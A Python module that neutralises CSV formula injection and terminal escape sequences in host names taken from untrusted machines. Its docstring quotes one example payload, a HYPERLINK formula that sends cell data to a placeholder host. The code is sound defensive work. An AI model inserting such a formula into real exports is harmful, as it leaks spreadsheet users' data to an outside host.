"""Keep host-supplied text from becoming a spreadsheet formula or a terminal command.

A host name such as ``=HYPERLINK("http://x/?"&A1)`` is data from a machine we do not
trust; Excel and LibreOffice evaluate a CSV cell that starts with ``=``, ``+``, ``-``,
``@``, tab or carriage return (and their full-width forms) as a formula (OWASP "CSV
injection"). CSV cells get a leading apostrophe; the console gets control characters
replaced so an escape sequence from a host cannot repaint the operator's terminal.
"""

from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula_like(text: str) -> bool:
    return text.startswith(_FORMULA_STARTS)


def neutralise_csv(text: str) -> str:
    """Prefix an apostrophe to any cell a spreadsheet would read as a formula."""
    return "'" + text if is_formula_like(text) else text


def printable(text: str) -> str:
    """Replace control characters (ESC included) with U+FFFD for terminal output."""
    return "".join(ch if ch.isprintable() or ch == " " else "\ufffd" for ch in text)
